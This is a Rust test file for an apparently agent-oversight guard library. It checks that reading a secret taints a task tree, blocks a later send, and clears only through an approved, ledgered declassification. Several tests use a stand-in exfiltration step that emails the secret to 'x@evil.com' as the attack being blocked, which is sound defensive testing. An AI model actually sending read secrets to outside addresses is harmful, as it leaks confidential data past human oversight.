//! A label armed by a read stays for the whole task tree until an explicit, approved,
//! ledgered declassification clears it.

use std::sync::Arc;

use agentwarrant::{
    ApprovalAnswer, ApprovalRequest, Guard, Impact, MemoryLedger, Outcome, Policy, ReasonCode,
    RefusalKind, ToolCall, ToolSpec, DEFAULT_BUNDLE,
};
use serde_json::json;

use crate::fixtures::*;

fn read_secret_then_send(guard: &Guard) -> agentwarrant::Task {
    let task = guard.begin(ops(), anything()).unwrap();
    task.run(
        ToolCall::new("read_secret", json!({"path": "db/main"})),
        |_| Ok::<_, String>(()),
    )
    .unwrap();
    let refusal = task
        .authorize(ToolCall::new("send_email", json!({"to": "x@evil.com"})))
        .unwrap_err();
    assert!(refusal.has(&ReasonCode::Exfiltration));
    task
}

#[test]
fn an_approved_declassification_clears_the_label_for_the_tree_and_is_ledgered() {
    let ledger = Arc::new(MemoryLedger::new());
    let guard = builder()
        .approver(approve_as(BOB))
        .ledger(ledger.clone())
        .limits(patient())
        .build()
        .unwrap();
    let task = read_secret_then_send(&guard);
    let helper = task
        .delegate(
            agent("agent://acme/helper", agentwarrant::Role::Executor, ALICE),
            None,
        )
        .unwrap();
    helper
        .declassify("secret", "the password was rotated after the read")
        .unwrap();
    // The whole tree shares the chain: the parent may send now, with an ordinary approval.
    task.authorize(ToolCall::new("send_email", json!({"to": "x@evil.com"})))
        .unwrap()
        .complete(Outcome::ok())
        .unwrap();

    let records: Vec<_> = ledger
        .records()
        .into_iter()
        .filter(|r| r.tool.as_deref() == Some("declassify"))
        .collect();
    let kinds: Vec<&str> = records.iter().map(|r| r.kind.as_str()).collect();
    assert_eq!(
        kinds,
        [
            "approval.requested",
            "approval.answered",
            "call.decided",
            "call.completed"
        ]
    );
    let decided = &records[2];
    assert_eq!(status(decided), "approved");
    assert_eq!(decided.approver.as_deref(), Some(&[BOB.to_owned()][..]));
    assert!(decided
        .decision
        .as_ref()
        .unwrap()
        .reasons
        .iter()
        .any(|r| r == "high_impact"));
    assert_eq!(
        decided.args,
        Some(json!({"label": "secret", "reason": "the password was rotated after the read"}))
    );
    assert_eq!(
        records[3].detail,
        Some(json!({"label": "secret", "cleared": true}))
    );

    // Reading the secret again arms the rule again.
    task.run(
        ToolCall::new("read_secret", json!({"path": "db/main"})),
        |_| Ok::<_, String>(()),
    )
    .unwrap();
    let again = task
        .authorize(ToolCall::new("send_email", json!({"to": "x@evil.com"})))
        .unwrap_err();
    assert!(again.has(&ReasonCode::Exfiltration));
}

#[test]
fn a_refused_declassification_leaves_the_label_and_nothing_else_clears_it() {
    let guard = builder()
        .approver(|request: &ApprovalRequest| {
            if request.tool != "declassify" {
                return approve_as(BOB)(request);
            }
            Ok(ApprovalAnswer::Denied {
                by: Some(BOB.into()),
                reason: Some("keep it".into()),
            })
        })
        .limits(patient())
        .build()
        .unwrap();
    let task = read_secret_then_send(&guard);
    let refusal = task.declassify("secret", "done with it").unwrap_err();
    assert_eq!(refusal.kind, RefusalKind::ApprovalDenied);
    assert!(task
        .authorize(ToolCall::new("send_email", json!({"to": "x@evil.com"})))
        .unwrap_err()
        .has(&ReasonCode::Exfiltration));

    for (label, reason) in [("untrusted", "never read"), ("secret", "  ")] {
        let refusal = task.declassify(label, reason).unwrap_err();
        assert!(refusal.has(&ReasonCode::InvalidCall), "{refusal}");
    }
}

#[test]
fn a_custom_rule_can_keep_a_label_from_ever_being_cleared() {
    let policy = Policy::empty().with_module(
        "agentwarrant.rego",
        format!(
            "{DEFAULT_BUNDLE}\ndeny contains \"secret_stays\" if {{\n\t\"declassification\" in input.call.spec.tags\n\tinput.call.args.label == \"secret\"\n}}\n"
        ),
    );
    let guard = builder()
        .policy(policy)
        .approver(approve_as(BOB))
        .limits(patient())
        .build()
        .unwrap();
    let task = read_secret_then_send(&guard);
    let refusal = task.declassify("secret", "rotated").unwrap_err();
    assert_eq!(refusal.reasons[0].code.as_str(), "secret_stays");
    let spec = ToolSpec::builder("declassify", Impact::Low)
        .build()
        .unwrap();
    assert_eq!(guard.declare_tool(spec).unwrap_err().code(), "invalid_tool");
}
